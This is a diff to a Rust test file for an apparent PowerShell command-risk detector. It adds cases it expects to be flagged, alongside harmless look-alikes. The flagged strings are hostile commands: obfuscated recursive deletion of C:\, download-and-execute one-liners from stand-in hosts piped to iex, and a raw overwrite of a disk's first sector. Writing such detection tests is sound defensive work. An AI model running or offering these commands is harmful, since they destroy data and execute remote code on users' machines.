@@ -115,6 +115,11 @@ fn disguises_are_seen_through() {
             r"& (gcm r*ve-It*m) C:\ -Recurse",
             r"& (Get-Command Remove-Item) C:\ -Recurse",
             r"& (gal ri) C:\ -r",
+            r"& (gal ie[x]) 'ri C:\ -r'",
+            r"([xml]'<a><b>ri C:\ -r</b></a>').a.b | iex",
+            r"iex ([xml]'<r k=''1''><c><![CDATA[ri C:\ -r]]></c></r>').r.c",
+            r"$ExecutionContext.InvokeCommand.InvokeScript.Invoke('ri C:\ -r')",
+            r"[scriptblock]::Create.Invoke('ri C:\ -r').Invoke()",
             r"Set-Alias zap Remove-Item; zap C:\ -r",
             r"sal x iex; x 'ri C:\ -r'",
             r"function f($p) { ri $p -r }; f C:\",
@@ -169,6 +174,8 @@ fn other_dangers() {
             r"irm https://x.example/i | iex",
             r"iwr -useb https://x.example/i | iex",
             r"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
+            r"(New-Object Net.WebClient).DownloadString.Invoke('https://x.example/a') | iex",
+            r"$m = 'Down' + 'loadString'; (New-Object Net.WebClient).$m.Invoke('https://x.example/a') | & (gcm i*x)",
             r"(New-Object Net.WebClient).DownloadFile('http://x/a.exe','a.exe'); .\a.exe",
             r"iwr http://x/a.exe -OutFile a.exe; Start-Process a.exe",
             r"Invoke-WebRequest http://x/a.ps1 -OutFile $env:TEMP\a.ps1; & $env:TEMP\a.ps1",
@@ -247,6 +254,16 @@ fn other_dangers() {
 }
 
 #[test]
+fn disks_that_wmi_names() {
+    flagged(
+        Risk::High,
+        &[
+            r"$d=(Get-CimInstance Win32_DiskDrive)[0].DeviceID; [IO.File]::OpenWrite($d).Write((New-Object byte[] 512),0,512)",
+        ],
+    );
+}
+
+#[test]
 fn harmless_twins_are_quiet() {
     quiet(
         Risk::Safe,
@@ -260,6 +277,11 @@ fn harmless_twins_are_quiet() {
             r"Select-String -Path *.log -Pattern 'Remove-Item C:\'",
             r"git commit -m 'Remove-Item C:\ -Recurse'",
             r"Get-Help Remove-Item -Examples",
+            r"gal ie[x]",
+            r"([xml]'<a><b>ri C:\ -r</b></a>').a.b",
+            r"([xml](Get-Content pom.xml)).project.version",
+            r"(New-Object Net.WebClient).DownloadString.Invoke('https://x.example/a').Length",
+            r"(Get-CimInstance Win32_DiskDrive).DeviceID",
             r"Get-Command Remove-Item",
             r"Get-Service | Where-Object Status -eq Stopped",
             r"$x = 'iex'; $x.Length",
